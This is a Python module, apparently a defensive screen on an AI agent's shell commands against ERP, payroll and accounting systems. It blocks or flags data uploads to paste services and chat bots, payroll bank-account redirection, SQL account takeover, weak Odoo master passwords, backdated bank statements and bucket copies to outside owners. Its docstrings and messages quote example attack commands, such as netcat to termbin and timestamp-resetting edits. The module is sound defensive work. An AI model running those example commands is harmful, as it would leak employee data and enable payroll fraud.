"""ERP, accounting, HR and payroll (Odoo, SAP HANA, NetSuite, QuickBooks, Xero, Workday, ADP/Gusto, bank files), from
the shell (sessions 30, 31). The tables and the messages are validate/erp_tables.py.

Blocked:
- what a command prints (an export cut from a payroll register, a query's rows, a grep of a log) piped into an upload
  (`curl -d @-`, `-T -`) to a drop-box service or a chat bot's channel; a dump, a backup or an export uploaded there as
  a file (a Telegram bot's `sendDocument`). What `echo`/`printf` print literally stays allowed (a test of a webhook);
  a bare address may be the user's own server, and what reaches one is left to net.py's and scraping.py's readers;
- what a program prints, or a file (`< payroll.csv`), fed to netcat at a paste service (`| nc termbin.com 9999`);
- an employee's pay account set through a payroll API to an account written on the line (`PUT
  /employees/…/bank_accounts` with a routing and account number, ADP's `worker.pay-distribution.change` event,
  NetSuite's employee record through SuiteTalk REST) at a production service, with curl, wget or HTTPie / xh (their
  data items read as the JSON they send, `routing_number=121000358`), the body on the line, in a file this input
  wrote or on the standard input; a supplier's (a vendor's bank-details record), or any at a host known only at run
  time (`"$API/employees/…"`), is held;
- SQL (psql, mysql, sqlcmd, hdbsql) on a database that is not this machine's nor a throwaway one that takes an account
  over (a password written on the line, the second factor cleared), makes an administrator with a password the agent
  chose, turns the audit off, reads SAP's password hashes, or sets every supplier's bank account to one account
  (erp_tables.sql_finding);
- Odoo's master password set to one anyone would guess (or with the database list opened) in its settings, by an edit
  (`sed -i` with `s///` or an append after a pattern, `crudini`, a redirect), also a settings file in an Odoo folder
  (`/opt/odoo/config/prod.conf`);
- what `odoo-bin shell` (`odoo shell`, `python3 odoo-bin shell`) is fed by a pipe, a here-string or a here-document:
  Python with the database's `env`, judged as Python (a password written into `res.users`, for a user given by id or
  found by a search, every bank record rewritten); the same in Odoo's container (`docker exec -i odoo odoo shell -d
  acme <<'EOF'`, `docker compose exec -T`, `kubectl exec -i pod -- odoo shell`); on a database named as a copy
  (`acme_staging`) it is the usual post-restore step, allowed;
- a bank statement edited in place, or rewritten through a scratch file moved over it (`sed … f.sta > /tmp/s && mv
  /tmp/s f.sta`), and its time stamp set back (`touch -r`, `-d`): the books no longer match the bank and the change
  is hidden (a statement copied in with its own time, `cp -p`, `touch -r` of the original, stays allowed);
- every branch pushed to a remote whose owner is a look-alike of a name (`acme-c0rp`);
- a bucket of payroll, HR or backups copied into a bucket that carries none of its organisation's names, handed to
  that bucket's owner (`--acl bucket-owner-full-control`; without it, held).

Held `irreversible`: `odoo-bin neutralize` (also as `python3 odoo-bin …`, and in its container) and `click-odoo-dropdb` on a database whose name does not say it is a copy
(`_staging`, `_test`), HANA's `BACKUP CATALOG DELETE`.

Reviewed rather than blocked: a library folder of the system's (under /usr or /opt) added to the loader's path by root
(`echo /usr/local/sap/nwrfcsdk/lib | sudo tee /etc/ld.so.conf.d/nwrfcsdk.conf`), as SAP's, Oracle's and NVIDIA's SDKs
are installed; any other entry keeps the persistence block.
"""
from __future__ import annotations

import re

from .. import erp_tables as et
from .. import paths
from ..scraping_tables import _DROP_SITES
from .commands import Cmd, has_flag, option_value, positionals
from .common import Screen, feeders, input_text, mentions
from .scraping import UPLOAD_KINDS, uploaded

# -- uploads -----------------------------------------------------------------------------------------------------------
_WRITES = frozenset({"POST", "PUT", "PATCH"})


def _literal_printer(c: Cmd) -> bool:
    """`echo '{"test": 1}'`, `printf …`, `jq -n '{…}'`: text written on the line, not read from anywhere."""
    if c.name in ("echo", "printf") or c.name in ("jq", "yq") and has_flag(c.args, "n", ("--null-input",)):
        return all(w.value is not None and "$" not in w.text and "`" not in w.text for w in c.args)
    return c.name in ("true", ":")


def _sent(a, cmd: Cmd) -> None:
    from .api_calls import _READERS, remote

    reader = _READERS.get(cmd.name)
    if reader is None:
        return
    for req in reader(cmd.args):
        for u in req.urls:
            host = remote(u)
            if not host:
                continue
            url = u.value if u.value is not None else u.text.replace('"', "").replace("'", "")
            if _payee_sent(a, cmd, req, url, host):
                return
            if host == "?":
                continue
            # (a bare address may be the user's own server: what goes there is judged by net.py and scraping.py)
            chat, bin_ = et.chat_drop(url), et.request_bin(host)
            if not (chat or bin_ or et.drop_site(host)):
                if _token_file_sent(a, cmd, req):
                    return
                continue
            who = et.stranger(url, host)
            kinds = req.kinds or ("",) * len(req.bodies)
            for kind, w in zip(kinds, req.bodies):
                if kind not in UPLOAD_KINDS:
                    continue
                path = uploaded(kind, w)
                if path == "-":
                    fed = [c for c in feeders(a, cmd) if not _literal_printer(c)]
                    reads = next((c for c in fed if _reads_records(c, strict=chat or bin_)), None)
                    if reads is not None or fed and not chat and not bin_:
                        c = reads or fed[0]
                        a.block("exfiltration", f"what `{c.name}` prints is piped into `{cmd.name}`, which uploads "
                                                f"it to {who}: the organisation's data leaves its systems; keep it "
                                                "here, or send it to the organisation's own service by name", w.node)
                        return
                    # (a chat channel gets the build's notice, a webhook tester the developer's test event: what a
                    # program other than `cat` of a fixture prints to a tester is for a person to look at)
                    other = next((c for c in fed if not _fixture_cat(c)), None)
                    if bin_ and other is not None:
                        a.review("exfiltration", f"what `{other.name}` prints is piped into `{cmd.name}`, which "
                                                 f"uploads it to {who}: a person should confirm it is a test event, "
                                                 "not the organisation's data", w.node)
                        return
                elif path and (et.records_file(path) or et.token_file(paths.normalize(path))):
                    message = (f"`{cmd.name}` uploads {path} (an export, a dump, a backup of the organisation's "
                               f"records or its saved tokens) to {who}")
                    if chat and "$" in u.text and not et.token_file(paths.normalize(path)):
                        # (the bot's token from the environment: the organisation's own bot and its channel)
                        a.review("exfiltration", f"{message}: a person should confirm the channel is the "
                                                 "organisation's", w.node)
                    else:
                        a.block("exfiltration", f"{message}; keep them in the organisation's own storage", w.node)
                    return


_HTTPIE = frozenset({"http", "https", "xh", "xhs", "curlie"})
_QUOTES = "\"'"  # (`account_number:='"44120098"'`: a JSON string given raw)


def _payee_sent(a, cmd: Cmd, req, url: str, host: str) -> bool:
    """A payee's bank record set to an account written on the line (erp_tables.payee_change); True when judged."""
    if not et.payee_path(url) or host != "?" and et.sandbox(host):
        return False
    body, verb = _request_text(a, cmd, req)
    if verb not in _WRITES:
        return False
    found = et.payee_change(url, body)
    if found is None:
        return False
    verdict, message = et.payee_message(f"{cmd.name} -X {verb} {url[:70]}", found[0], found[1],
                                        None if host == "?" else host)
    (a.block if verdict == "block" else a.review)("exfiltration", message, cmd.node)
    return True


def _request_text(a, cmd: Cmd, req) -> tuple[str, str]:
    """(the request's body as text, its method): HTTPie's and xh's data items read as the JSON fields they send
    (`routing_number=121000358`, `account_number:=44120098`), and what is piped into them when they have none."""
    from .api_calls import _DATA_SEPS, _ITEM_SEP, _file, fed_text, request_body

    if cmd.name not in _HTTPIE:
        # (a body read from a file this input wrote, `-d @body.json`, `--body-file=f`, is what is sent)
        kinds = req.kinds or ("",) * len(req.bodies)
        files = [_file(a, p) for k, w in zip(kinds, req.bodies) if k in UPLOAD_KINDS
                 for p in [uploaded(k, w)] if p and p != "-"]
        return "\n".join([request_body(a, cmd, req), *(f for f in files if f)]), req.verb
    fields = []
    for w in req.bodies:
        v = w.value if w.value is not None else w.text
        m = _ITEM_SEP.match(v)
        if m is None or m.group(1) not in _DATA_SEPS or m.group(1)[-1] == "@":
            continue  # (a header, a query item, a field read from a file)
        fields.append(f'"{v[:m.start(1)]}": "{v[m.end():].strip(_QUOTES)}"')
    if fields:
        return "\n".join(fields), req.verb
    fed = fed_text(a, cmd)
    # (a body on the standard input makes HTTPie's request a POST unless a method is given)
    return fed or "", req.verb if req.method is not None or not fed else "POST"


# netcat's options that take a value (OpenBSD's, GNU's and nmap's ncat), so that it is not read as the host
_NC_ARG = frozenset({"-I", "-i", "-M", "-m", "-O", "-P", "-p", "-q", "-s", "-T", "-V", "-W", "-w", "-X", "-x", "-e",
                     "-c", "-o", "-g", "-G", "--sh-exec", "--exec", "--lua-exec", "--proxy", "--proxy-type",
                     "--source-port", "--source", "--wait", "--idle-timeout", "--output", "--hex-dump"})


def _nc(a, cmd: Cmd) -> None:
    """`cat payroll.csv | nc termbin.com 9999`: a paste service that takes what reaches a raw socket and answers with
    its public address; what a program prints or a file of records, fed to it, is published."""
    words = positionals(cmd.args, _NC_ARG)
    host = words[0].value if words else None
    if not et.drop_site(host):
        return
    read = None
    for r in cmd.redirects:
        if r.type == "file_redirect" and r.children and r.children[0].type == "<":
            for d in r.children_by_field_name("destination")[:1]:
                read = a.ev.word(d).value or "a file"
    fed = read or next((c.name for c in feeders(a, cmd) if not _literal_printer(c)), None)
    if fed is not None:
        a.block("exfiltration", f"`{cmd.name}` sends {fed if read else f'what `{fed}` prints'} to {host}, a paste "
                                "service that publishes whatever reaches its port: the organisation's data leaves its "
                                "systems; keep it here", cmd.node)


def _reads_records(c: Cmd, strict: bool = False) -> bool:
    """Whether a program feeding an upload reads a file of records, a saved token, a hidden scratch file (where an
    attack keeps what it gathered: `/tmp/.ng.log`) or the environment."""
    if c.name in ("env", "printenv", "set", "export"):
        return True
    for v in c.values():
        if not v or v[:1] == "-":
            continue
        n = paths.normalize(v)
        if (et.held_records(v) if strict else et.records_file(v)) or et.token_file(n) or paths.held_secret(n) or "/." in n and n[:2] != "./" and \
                "/./" not in n:
            return True
    return False


def _fixture_cat(c: Cmd) -> bool:
    """`cat payload.json`, `cat fixtures/xero_event.json`: a test event read from the project (no records)."""
    vals = [v for v in c.values() if v and v[:1] != "-"]
    return c.name in ("cat", "jq") and bool(vals) and all(not et.held_records(v) and v[:1] != "/" and v[:1] != "~"
                                                          for v in vals)


def _token_file_sent(a, cmd: Cmd, req) -> bool:
    """An integration's saved OAuth tokens sent whole (`cat ~/.config/x/tokens.json | curl -d @-`, `-d @file`): the
    service's own token endpoint takes one field (`refresh_token=$(jq -r …)`), never the file."""
    kinds = req.kinds or ("",) * len(req.bodies)
    for kind, w in zip(kinds, req.bodies):
        if kind not in UPLOAD_KINDS:
            continue
        path = uploaded(kind, w)
        src = None
        if path == "-":
            src = next((v for c in feeders(a, cmd) if c.name in ("cat", "tac", "base64", "gzip", "tee")
                        for v in c.values() if v and et.token_file(paths.normalize(v))), None)
        elif path and et.token_file(paths.normalize(path)):
            src = path
        if src is not None:
            a.block("exfiltration", f"`{cmd.name}` sends {src}, an integration's saved tokens, whole to "
                                    f"{req.urls[0].value or 'another host'}: whoever holds the refresh token reads the "
                                    "company's books; the service's own endpoint takes only the token's field", w.node)
            return True
    return False


_DROP_WORDS = re.compile("|".join(re.escape(d) for d in (*_DROP_SITES, *et._MORE_DROPS)) + r"|api\.telegram\.org|discord")
_PAYEE_WORDS = re.compile(r"(?i)bank|deposit|distribution|payment")


def _sent_screen(text: str) -> bool:
    """What _sent reads: a payee's bank record, or a body (`@`, `-T`, an upload option) sent to a drop-box or a chat
    bot, or an integration's saved tokens sent whole."""
    if _PAYEE_WORDS.search(text) is not None:
        return True
    if not ("@" in text or "-T" in text or "upload-file" in text or "post-file" in text or "body-file" in text):
        return False
    return _DROP_WORDS.search(text) is not None or ".config/" in text


# -- SQL clients -------------------------------------------------------------------------------------------------------
_HDBSQL_ARG = frozenset({"-n", "-i", "-d", "-u", "-p", "-U", "-I", "-o", "-c", "-F", "-g", "-G", "-S", "-E", "-V",
                         "-B", "-resultencoding", "-sslkeystore", "-ssltruststore", "-sslprovider",
                         "-sslhostnameincert", "-history", "-z"})


def _hdbsql_texts(a, cmd: Cmd) -> list[tuple[str, object]]:
    """The SQL hdbsql runs: its words after the options, a file this input wrote (`-I`), what reaches its input."""
    from .exec import stdin_text
    from .written import text_written

    words = positionals(cmd.args, _HDBSQL_ARG)
    out = []
    if words:
        out.append((" ".join(w.value if w.value is not None else w.text for w in words), words[0].node))
    for w in option_value(cmd.args, "-I"):
        got = text_written(a, w.value) if w.value else None
        if got is not None:
            out.append((got[0], w.node))
    fed = stdin_text(a, cmd)
    if fed is not None:
        out.append((fed[0], fed[2] or cmd.node))
    return [(t, n) for t, n in out if t]


def _hdbsql_local(cmd: Cmd) -> bool:
    """Whether hdbsql reaches this machine's HANA: `-n localhost:39013`, or neither `-n` nor a stored key (`-U KEY`,
    whose entry names the host) given, when it connects to localhost (a HANA Express on the developer's machine)."""
    from ..hosts import loopback

    hosts = [w.value for w in option_value(cmd.args, "-n")]
    if not hosts:
        return not option_value(cmd.args, "-U") and not any((w.value or "").startswith("-U") for w in cmd.args)
    return all(h is not None and loopback(h.rsplit(":", 1)[0].strip("[]")) for h in hosts)


def _copy_target(a, cmd: Cmd) -> bool:
    """Whether the client reaches a copy of the data (erp_tables.copy_name: `acme_staging`, `staging-db.acme.internal`)
    or a compose project's database service by its one-label name (`psql -h db …`): where an administrator's password
    is reset after a restore, as Odoo's and ERPNext's guides do."""
    from .infra import _MYSQL_ARG, _PSQL_ARG, _SQL_TARGET

    target = _SQL_TARGET.get(cmd.name)
    if target is None:
        return False
    host_opts, db_opts, _, positional = target
    hosts = [w.value for w in option_value(cmd.args, *host_opts)] if host_opts else []
    names = [w.value for w in option_value(cmd.args, *db_opts)] if db_opts else []
    if positional:
        names += [w.value for w in positionals(cmd.args, _MYSQL_ARG if cmd.name in ("mysql", "mariadb")
                                               else _PSQL_ARG)[:1]]
    if any(v is None or "$" in v or "://" in v for v in hosts + names):
        return False
    first = [h.split(".", 1)[0] for h in hosts]
    return (bool(names) and all(et.copy_name(n) for n in names) or
            bool(hosts) and all(et.copy_name(f) or et.DB_SERVICE.fullmatch(h) for f, h in zip(first, hosts)))


def _sql(a, cmd: Cmd) -> None:
    from .. import finance_tables, sql
    from .datastores import _client_sql, _names_server
    from .infra import _local_sql

    hana = cmd.name == "hdbsql"
    texts = _hdbsql_texts(a, cmd) if hana else _client_sql(a, cmd)
    if not texts or (_hdbsql_local(cmd) if hana else _local_sql(a, cmd) or _copy_target(a, cmd)):
        return
    named = hana or _names_server(a, cmd)
    for text, node in texts:
        found = et.sql_finding(text)
        if found is None and hana:  # (the other clients' SQL is read by infra.py and datastores.py)
            harm = finance_tables.sql_harm(text) or sql.privilege(text)
            found = ("block", *harm) if harm else None
            lost = sql.loss(text) if found is None else None
            if lost is not None:
                found = ("review", "irreversible", f"`{lost.statement()}` destroys data on the database server with "
                                                   "no undo; take a backup first and let the user run it")
        if found is None:
            continue
        verdict, rule, message = found
        if verdict == "block" and named:
            a.block(rule, f"`{cmd.name}`: {message}", node)
        else:  # `sudo -u postgres psql -c …`: most often this machine's own server, whose owner decides
            a.review(rule, f"`{cmd.name}`: {message}", node)
        return


_SQL_SCREEN = Screen(re.compile(et.SQL_WORDS, re.I))
_FINANCE_HINT = re.compile(r"(?i)\b(?:delete|truncate|trigger|alter\s+system|update)\b")


def _sql_hint(text: str) -> bool:
    from ..sql import sql_hint

    return sql_hint(text)


# -- Odoo's database tools ---------------------------------------------------------------------------------------------
_ODOO_ARG = frozenset({"-c", "--config", "-d", "--database", "--db_host", "--db_port", "--db_user", "--db_password",
                       "--addons-path", "--log-level", "--logfile", "-p", "--http-port", "-u", "-i", "--update",
                       "--init", "--load", "--data-dir", "-r", "-w"})


def _odoo(a, cmd: Cmd, args: list | None = None) -> None:
    """`odoo-bin neutralize -d acme_prod`: the database's outgoing mail servers, scheduled actions, payment providers
    and integrations are turned off for good (it is meant for a copy); on a database that does not say it is one,
    held. `odoo-bin shell -d acme` runs the Python it is fed (a pipe, a here-string, a here-document) with the
    database's `env`: that code is judged as Python is."""
    args = cmd.args if args is None else args
    pos = [w.value for w in positionals(args, _ODOO_ARG)]
    if pos[:1] != ["neutralize"] and pos[:1] != ["shell"]:
        return
    dbs = [w.value for w in option_value(args, "-d", "--database")] + \
        [v[11:] for v in (w.value or "" for w in args) if v.startswith("--database=")]
    if dbs and all(et.copy_name(d) for d in dbs):
        return  # (a copy of production: neutralized, its administrator's password reset after a restore)
    if pos[0] == "shell":
        from .api_calls import fed_text

        code = fed_text(a, cmd)
        if code and "env" in code:
            a.nested(code, "python", cmd.node, None)
        return
    shown = cmd.name if args is cmd.args else "odoo-bin"
    a.review("irreversible", f"`{shown} neutralize` turns off the mail servers, scheduled actions, payment "
                             f"providers and integrations of the database {dbs[0] if dbs else ''} for good: meant for "
                             "a copy of production; run it only on a copy and let the user confirm", cmd.node)


# (`python3 odoo-bin …`, `python3 -m odoo …`: the same program, started by the interpreter; `/usr/bin/odoo` is the
# official image's)
_ODOO_SCRIPT = re.compile(r"(?:^|/)(?:odoo-bin|odoo\.py|openerp-server)$|/odoo$")


def _odoo_by_python(a, cmd: Cmd) -> None:
    words = cmd.args
    for i, w in enumerate(words[:4]):
        v = w.value or ""
        if _ODOO_SCRIPT.search(v) or v == "odoo" and i > 0 and words[i - 1].value == "-m":
            _odoo(a, cmd, words[i + 1:])
            return
        if v[:1] != "-" or v == "-m" and i + 1 < len(words) and words[i + 1].value != "odoo":
            return


_ODOO_NAMES = ("odoo-bin", "odoo", "odoo.py", "openerp-server")
_CONTAINER_TOOLS = ("docker", "podman", "nerdctl", "docker-compose", "podman-compose", "kubectl", "oc")


def _odoo_inside(a, cmd: Cmd) -> None:
    """`docker exec -i odoo odoo shell -d acme <<'EOF'`, `docker compose exec -T odoo odoo shell …`, `kubectl exec -i
    pod -- odoo shell …`: Odoo run in its container (its official image's `odoo`, a pod of a Helm chart), with what
    is fed to the container's command reaching it (infra.run_inside), judged as here: the database is the company's
    wherever the program runs."""
    from .infra import run_inside

    inner = run_inside(cmd)
    if inner is None:
        return
    if inner.name in _ODOO_NAMES:
        _odoo(a, inner)
    elif inner.name in ("python", "python3"):
        _odoo_by_python(a, inner)


def _dropdb(a, cmd: Cmd) -> None:
    from .. import sql

    pos = [w.value for w in positionals(cmd.args, frozenset({"-c", "--config"}))]
    if pos and all(p and sql.throwaway_name(p) for p in pos):
        return
    a.review("irreversible", f"`{cmd.name} {' '.join(p or '…' for p in pos)}` drops the database with its filestore, "
                             "no undo; back it up first and let the user run it", cmd.node)


def _crudini(a, cmd: Cmd) -> None:
    """`crudini --set /etc/odoo/odoo.conf options admin_passwd admin`: an Odoo setting written by its tool."""
    pos = [w.value for w in positionals(cmd.args)]
    if not has_flag(cmd.args, "", ("--set",)) or len(pos) < 4 or not pos[0] or not et.ODOO_CONF.search(pos[0]):
        return
    found = et.odoo_master(f"{pos[2]} = {pos[3]}") if pos[2] and pos[3] is not None else None
    if found is not None:
        a.block("permission-tamper", f"`crudini` writes {pos[0]}: {found}; keep a long random master password and "
                                     "the database list off", cmd.node)


# -- a bank statement changed, its time set back -----------------------------------------------------------------------
_TOUCH_ARG = frozenset({"-r", "--reference", "-d", "--date", "-t"})


def _touch(a, cmd: Cmd) -> None:
    if not (option_value(cmd.args, "-r", "--reference", "-d", "--date", "-t") or
            any((w.value or "").startswith(("--reference=", "--date=")) for w in cmd.args)):
        return
    for w in positionals(cmd.args, _TOUCH_ARG):
        if w.value and et.BANK_FILE.search(w.value) and _edited(a, w.value):
            a.block("anti-forensics", f"`touch` sets the time of {w.value} back after this input edited it: a bank "
                                      "statement changed where it was received, with the change hidden; the books "
                                      "no longer match the bank's records; leave received statements as they came",
                    w.node)
            return


def _edited(a, path: str) -> bool:
    """Whether a command of this input edits `path` in place (`sed -i`, `perl -pi`, `ed`, `sponge`), or puts over it a
    file this input wrote from it (`sed '…' f.sta > /tmp/s && mv /tmp/s f.sta`)."""
    edited, moved, wrote = _edits(a)
    want = paths.normalize(path)
    return want in edited or any(want in wrote.get(src, ()) for src in moved.get(want, ()))


_MOVE_ARG = frozenset({"-t", "--target-directory", "-S", "--suffix", "-m", "--mode", "-o", "-g"})


def _edits(a) -> tuple[set, dict, dict]:
    """(the paths this input's commands edit in place, destination -> the files moved or copied onto it, a file
    written by a `>` redirect -> the paths its command read), taking in the commands judged since the last ask."""
    from .files import written_file

    # (grown as commands are judged: a script of 1,500 `sed … && mv … && touch -r …` asks at each `touch`)
    seen = a.memo.setdefault("erp edits", [0, (set(), {}, {})])
    edited, moved, wrote = seen[1]
    commands = a.ctx.commands
    for doc, c in commands[seen[0]:]:
        if doc is not a.doc:
            continue
        if c.name in ("sed", "gsed", "perl", "ruby") and has_flag(c.args, "i", ("--in-place",)) or \
                c.name in ("ed", "ex", "sponge") or c.name in ("awk", "gawk") and \
                "inplace" in " ".join(v or "" for v in c.values()):
            edited.update(paths.normalize(v) for v in c.values() if v)
        elif c.name in ("mv", "cp", "install"):
            vals = [w.value for w in positionals(c.args, _MOVE_ARG)]
            if len(vals) >= 2 and vals[-1]:
                moved.setdefault(paths.normalize(vals[-1]), []).extend(paths.normalize(v) for v in vals[:-1] if v)
        if c.redirects:
            out = written_file(a, c.redirects)
            if out:
                wrote.setdefault(paths.normalize(out), set()).update(paths.normalize(v) for v in c.values() if v)
    seen[0] = len(commands)
    return edited, moved, wrote


# -- buckets -----------------------------------------------------------------------------------------------------------
_AWS_ARG = frozenset({"--profile", "--region", "--endpoint-url", "--acl", "--exclude", "--include", "--sse",
                      "--sse-kms-key-id", "--storage-class", "--grants", "--output", "--query", "--source-region"})
# words a bucket's name says about what it holds, not whose it is
_DATA_WORDS = frozenset({"payroll", "exports", "export", "reports", "report", "files", "data", "records", "hr", "finance",
                         "accounting", "ledger", "customers", "customer", "employees", "staff", "people", "dumps",
                         "dump", "archive", "archives", "backup", "backups", "private", "personal", "pii", "vault",
                         "secrets", "logs", "eu", "us", "uk"})


def _aws(a, cmd: Cmd) -> None:
    """`aws s3 sync s3://acme-payroll-exports s3://payroll-archive-eu-2291/ --acl bucket-owner-full-control`: a bucket
    of payroll, HR data or backups copied into a bucket named for nobody of the organisation and handed to that
    bucket's owner (the grant only another account's bucket needs)."""
    from .. import backups_tables
    from ..cloud_admin import org_words

    pos = [w.value for w in positionals(cmd.args, _AWS_ARG)]
    if pos[:1] != ["s3"] or len(pos) < 4 or pos[1] not in ("sync", "cp", "mv"):
        return
    src, dst = pos[2] or "", pos[3] or ""
    if not (src.startswith("s3://") and dst.startswith("s3://")) or "$" in src + dst:
        return
    sb, db = src[5:].split("/", 1)[0], dst[5:].split("/", 1)[0]
    if not backups_tables.held_data(sb):
        return
    own = {w for w in org_words(sb) if w not in _DATA_WORDS and not backups_tables.held_data(w)}
    # (`acmecorp-hr-data` and `acme-corp-hr-archive`: one organisation spelled with and without its hyphen)
    joined = re.sub(r"[-_.]", "", db.lower())
    if not own or own & org_words(db) or any(w in db.lower() or w in joined for w in own):
        return
    handed = any((w.value or "") == "bucket-owner-full-control" or "bucket-owner-full-control" in (w.value or "")
                 for w in cmd.args) or option_value(cmd.args, "--grants")
    message = (f"`aws s3 {pos[1]}` copies {sb}, whose name says it holds payroll, personal data or backups, into {db}, "
               "which carries none of its organisation's names")
    if handed:
        a.block("exfiltration", f"{message}, and hands the copies to that bucket's owner (`--acl "
                                "bucket-owner-full-control`, needed only for another account's bucket): the "
                                "organisation's records go to someone else; copy only into its own buckets", cmd.node)
    else:
        a.review("exfiltration", f"{message}; a person should confirm the bucket is the organisation's", cmd.node)


# -- a repository pushed to a look-alike owner -------------------------------------------------------------------------
_FORGES = ("github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "gitea.com", "git.sr.ht", "dev.azure.com")
_FORGE_OWNER = re.compile(r"(?i)^(?:https?://(?:[^@/]*@)?|ssh://(?:[^@/]*@)?|git@)(" +
                          "|".join(re.escape(f) for f in _FORGES) + r")[:/]+([\w.-]+)/")
# a letter, a `0` or `1` standing for `o` or `l`, a letter: `acme-c0rp`, `g1thub`
_LOOKALIKE = re.compile(r"(?i)[a-z][01][a-z]")
_WHOLE = frozenset({"--all", "--mirror", "--tags"})
_UNLEET = str.maketrans("01", "ol")


def _git(a, cmd: Cmd) -> None:
    pos = [w.value for w in positionals(cmd.args, frozenset({"-C", "-c", "--git-dir", "--work-tree", "-o",
                                                             "--push-option", "--repo"}))]
    if pos[:1] != ["push"] or not any(v in _WHOLE or (v or "").startswith("refs/") for v in cmd.values()):
        return
    target = pos[1] if len(pos) > 1 else None
    url = target if target and ("://" in target or target.startswith("git@")) else _added_remote(a, target)
    m = _FORGE_OWNER.match(url or "")
    if m is None:
        return
    owner = m.group(2)
    if any(_LOOKALIKE.search(part) for part in re.split(r"[-_.]", owner)):
        # (a name with a digit is often a person's own, `m1guel`: the look-alike is proven when the input names the
        # owner it mimics; otherwise a person looks)
        plain = owner.lower().translate(_UNLEET)
        if plain not in input_text(a).lower():
            a.review("exfiltration", f"`git push` sends every branch or tag to {m.group(1)}/{owner}, an owner whose "
                                     "name may mimic another's with a digit for a letter: a person should confirm it "
                                     "is the organisation's", cmd.node)
            return
        a.block("exfiltration", f"`git push` sends every branch or tag to {m.group(1)}/{owner}, an owner whose name "
                                "mimics another's with a digit for a letter: the repository goes to whoever holds that "
                                "look-alike account; push only to the organisation's own remotes", cmd.node)


def _added_remote(a, name: str | None) -> str | None:
    """The URL `git remote add NAME URL` of this input gives `name`."""
    if not name:
        return None
    for doc, c in reversed(a.ctx.commands):
        if doc is a.doc and c.name == "git":
            vals = [w.value for w in positionals(c.args, frozenset({"-C", "-c", "-t", "-m"}))]
            if vals[:3] == ["remote", "add", name] and len(vals) > 3:
                return vals[3]
    return None


# -- files written: Odoo's settings, the loader's path ---------------------------------------------------------------
_LD_CONF = re.compile(r"^/etc/ld\.so\.conf\.d/[\w.@-]+\.conf$")
_SYSTEM_LIBS = re.compile(r"^/(?:usr|opt)/(?:[\w+@-][\w.+@-]*/)*[\w.+@-]*$")


def config_write(a, cmd: Cmd, w, value: str) -> bool:
    """What `cmd` writes to the file `value` (admin.judge_write asks first); True when judged here."""
    low = value.lower()
    if "odoo" in low or "openerp" in low:
        return _odoo_conf(a, cmd, w, value)
    if low.startswith("/etc/ld.so.conf.d/"):
        return _loader_path(a, cmd, w, value)
    return False


# `a`, `i`, `c` after no address, a line number, `$` or a pattern (`/^\[options\]/a admin_passwd = admin`)
_SED_ADD = re.compile(r"(?<![ \t\d$])[ \t]*+(?:\d++|\$|/(?:[^/\\\n]|\\.)*+/)?[ \t]*+[aic][ \t]*+\\?[ \t]*+([^\n]*)")


def _replacement(part: str) -> str | None:
    """The replacement of a `s/PATTERN/REPLACEMENT/FLAGS` command (after an address: `/^x/s|a|b|`), read once."""
    i = part.find("s")
    while i != -1 and i + 1 < len(part):
        delim = part[i + 1]
        if not delim.isalnum() and not delim.isspace() and delim != "\\":
            fields, cur, k = [], [], i + 2
            while k < len(part) and len(fields) < 2:
                c = part[k]
                if c == "\\" and k + 1 < len(part):
                    cur.append(part[k + 1])
                    k += 2
                    continue
                if c == delim:
                    fields.append("".join(cur))
                    cur = []
                else:
                    cur.append(c)
                k += 1
            return fields[1] if len(fields) == 2 else None
        i = part.find("s", i + 1)
    return None


def _sed_result(script: str) -> str:
    """The lines a `sed` script's substitutions and appends leave (its replacements, one per line)."""
    out = []
    for part in re.split(r"[;\n]", script):
        add = _SED_ADD.fullmatch(part)  # (first: a pattern address may hold an `s` and a delimiter)
        if add is not None:
            out.append(add.group(1))
            continue
        got = _replacement(part)
        if got is not None:
            out.append(got)
    return "\n".join(out)


def _odoo_conf(a, cmd: Cmd, w, value: str) -> bool:
    from .admin import _sed_script, written_text

    path = paths.normalize(value)
    if not et.ODOO_CONF.search(path):
        return False
    script = _sed_script(cmd) if cmd.name in ("sed", "gsed") else None
    text = _sed_result(script) if script is not None else written_text(a, cmd, w)
    found = et.odoo_master(text)
    if found is None:
        return False
    if path.startswith("~/") and et.LOCAL_DB_HOST.search(text or ""):
        return False  # (a developer's own settings for a server on this machine: Odoo's own default `admin`)
    if path.startswith("~/"):
        a.review("permission-tamper", f"`{cmd.name}` writes {path}: {found}: a person should confirm the server it "
                                      "starts is only the developer's", w.node)
        return True
    a.block("permission-tamper", f"`{cmd.name}` writes {path}: {found}: whoever tries it backs up, restores or drops "
                                 "every database; keep a long random master password and the database list off",
            w.node)
    return True


def _loader_path(a, cmd: Cmd, w, value: str) -> bool:
    """A folder of the system's own library tree (under /usr or /opt, no hidden or scratch part) added by root to the
    loader's search path: how vendor SDKs are installed. Held for a person, not blocked as a start-up file."""
    from .admin import root_change, written_text

    if not _LD_CONF.match(paths.normalize(value)) or not root_change(a, cmd):
        return False
    text = written_text(a, cmd, w)
    lines = [ln.strip() for ln in (text or "").splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
    if not lines or any(not _SYSTEM_LIBS.match(ln) or "/." in ln or "/tmp" in ln for ln in lines):
        return False
    if _filled(a, lines):
        return False  # (this input put the libraries there itself: the loader's path then serves its own copies)
    a.review("system-write", f"`{cmd.name}` adds {', '.join(lines)} to the loader's search path ({value}): every "
                             "program then finds libraries there; root changes the machine: a person should look",
             w.node)
    return True


_PLACERS = frozenset({"cp", "mv", "install", "ln", "rsync", "curl", "wget", "tee", "dd", "tar", "unzip", "gcc", "cc",
                      "ld"})


def _filled(a, folders: list[str]) -> bool:
    """Whether a command of this input copies, downloads, links or builds a file into one of `folders`."""
    want = [f.rstrip("/") + "/" for f in folders]
    for doc, c in a.ctx.commands:
        if doc is not a.doc or c.name not in _PLACERS:
            continue
        for v in c.values():
            if not v or v[:1] == "-" and "=" not in v:
                continue
            n = paths.normalize(v.split("=", 1)[-1])
            if any(n.startswith(w) or n + "/" in want for w in want):
                return True
    return False


HANDLERS: dict = {
    **{n: [_sent] for n in ("curl", "wget", "http", "https", "xh", "xhs", "curlie")},
    **{n: [_sql] for n in ("psql", "mysql", "mariadb", "sqlcmd", "hdbsql")},
    **{n: [_odoo] for n in _ODOO_NAMES},
    **{n: [_odoo_inside] for n in _CONTAINER_TOOLS},
    "python": [_odoo_by_python],
    "click-odoo-dropdb": [_dropdb], "crudini": [_crudini], "touch": [_touch], "aws": [_aws], "git": [_git],
    **{n: [_nc] for n in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")},
}

